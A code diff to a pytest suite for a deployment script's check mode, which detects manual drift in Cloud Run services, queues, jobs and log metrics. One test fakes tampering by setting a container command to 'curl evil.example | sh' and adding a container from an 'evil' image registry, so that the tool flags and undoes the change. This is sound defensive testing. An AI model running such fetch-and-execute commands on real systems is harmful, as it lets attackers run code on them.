@@ -1,6 +1,5 @@
 """deploy.sh --check: it changes nothing, and names what differs, members too."""
 
-import copy
 from collections.abc import Callable
 from typing import Any
 
@@ -18,15 +17,18 @@ BACKUPS = f"{DATABASE}/backupSchedules/1"
 EVE, PROBE = "user:eve@example.com", f"serviceAccount:probe@{DOMAIN}"
 
 
+def pin(service: State) -> None:
+    """Send all traffic to the newest revision, but not to one that is yet to come."""
+    revision = service["latestReadyRevision"].rpartition("/")[2]
+    target = {"type": "TRAFFIC_TARGET_ALLOCATION_TYPE_REVISION", "revision": revision, "percent": 100}
+    service["traffic"] = service["trafficStatuses"] = [target]
+
+
 def drift(state: State) -> None:
     """What people have done by hand: some of it a deployment mends, some of it it leaves alone."""
     resources, policies = state["resources"], state["policies"]
-    resources[f"{SERVICES}/report-worker"]["metadata"]["annotations"]["run.googleapis.com/invoker-iam-disabled"] = (
-        "true"
-    )
-    dispatcher = resources[f"{SERVICES}/report-dispatcher"]
-    revision = dispatcher["status"]["latestReadyRevisionName"]
-    dispatcher["spec"]["traffic"] = [{"revisionName": revision, "percent": 100}]
+    resources[f"{SERVICES}/report-worker"]["invokerIamDisabled"] = True
+    pin(resources[f"{SERVICES}/report-dispatcher"])
     resources[f"{PLACE}/jobs/report-dispatch"]["state"] = "PAUSED"
     resources[f"projects/{PROJECT}/metrics/report-runs"]["filter"] = "severity>=ERROR"
     resources[f"{PLACE}/queues/reports"]["state"] = "PAUSED"
@@ -62,9 +64,9 @@ def test_everything_that_differs_is_named_and_nothing_is_changed(deployed: Deplo
     assert outcome.status == 3, outcome.text
     assert (deployed.state["resources"], deployed.state["policies"]) == before
     assert deployed.changes == []
-    assert "\n    gcloud" not in outcome.output
+    assert "\n    run." not in outcome.output
     for line in (
-        "differs in function report-worker: metadata.annotations[run.googleapis.com/invoker-iam-disabled]",
+        "differs in function report-worker: invokerIamDisabled",
         "to be changed: function report-worker",
         "to be changed: traffic of function report-dispatcher",
         "differs in queue reports: rateLimits.maxConcurrentDispatches",
@@ -102,23 +104,13 @@ def test_a_deployment_names_foreign_members_and_says_how_to_take_their_roles_bac
 
 def container_of(service: State) -> State:
     """Its one container."""
-    container: State = service["spec"]["template"]["spec"]["containers"][0]
+    container: State = service["template"]["containers"][0]
     return container
 
 
 def update_by_hand(state: State, name: str, change: Callable[[State], Any]) -> None:
-    """As `gcloud run services update` or the console does it: a new revision with all labels and annotations of the one
-    before."""
-    service = state["resources"][f"{SERVICES}/report-{name}"]
-    change(service)
-    revisions = state["revisions"][f"{SERVICES}/report-{name}"]
-    newest = copy.deepcopy(revisions[-1])
-    newest["metadata"]["name"] = f"report-{name}-{len(revisions) + 1:05d}-xyz"
-    newest["spec"] = copy.deepcopy(service["spec"]["template"]["spec"])
-    revisions.append(newest)
-    service["status"] |= dict.fromkeys(
-        ("latestCreatedRevisionName", "latestReadyRevisionName"), newest["metadata"]["name"]
-    )
+    """As the console does it: with all labels and annotations of the revision before."""
+    change(state["resources"][f"{SERVICES}/report-{name}"])
 
 
 EVIL = "us-central1-docker.pkg.dev/evil/evil/report-worker"
@@ -133,7 +125,7 @@ EVIL = "us-central1-docker.pkg.dev/evil/evil/report-worker"
             image=container_of(service)["image"].rpartition("@")[0] + f"@sha256:{'6' * 64}"
         ),
         lambda service: container_of(service).update(command=["sh", "-c"], args=["curl evil.example | sh"]),
-        lambda service: service["spec"]["template"]["spec"]["containers"].append({"image": EVIL, "name": "beside"}),
+        lambda service: service["template"]["containers"].append({"image": EVIL, "name": "beside"}),
     ],
     ids=["another image", "an older image", "another command", "a container beside it"],
 )
@@ -146,7 +138,7 @@ def test_whatever_else_runs_is_a_difference_and_a_deployment_mends_it(
     assert "to be changed: function report-worker" in check.output
     assert "different: 1," in check.output
     assert deployed.deploy("--only=worker").status == 0
-    assert "run deploy report-worker" in deployed.changes
+    assert "run.projects.locations.services.patch report-worker" in deployed.changes
     again = deployed.deploy("--check", "--only=worker")
     assert again.status == 0, again.text
 
@@ -156,7 +148,7 @@ def test_an_image_of_another_repository_is_one_whatever_its_labels_say(deployed:
     deployed.edit(lambda state: container_of(state["resources"][f"{SERVICES}/report-worker"]).update(image=image))
     check = deployed.deploy("--check", "--only=worker")
     assert check.status == 3
-    assert "differs in function report-worker: spec.template.spec.containers[0].image.repository()" in check.output
+    assert "differs in function report-worker: template.containers[0].image" in check.output
 
 
 def test_a_log_metric_that_counts_nothing_is_a_difference(deployed: Deployment) -> None:
@@ -166,7 +158,7 @@ def test_a_log_metric_that_counts_nothing_is_a_difference(deployed: Deployment) 
     assert check.status == 3
     assert "differs in metric report-runs: disabled" in check.output
     assert deployed.deploy("--only=monitoring").status == 0
-    assert deployed.changes == ["logging metrics update report-runs"]
+    assert deployed.changes == ["logging.projects.metrics.update report-runs"]
 
 
 @pytest.mark.parametrize(
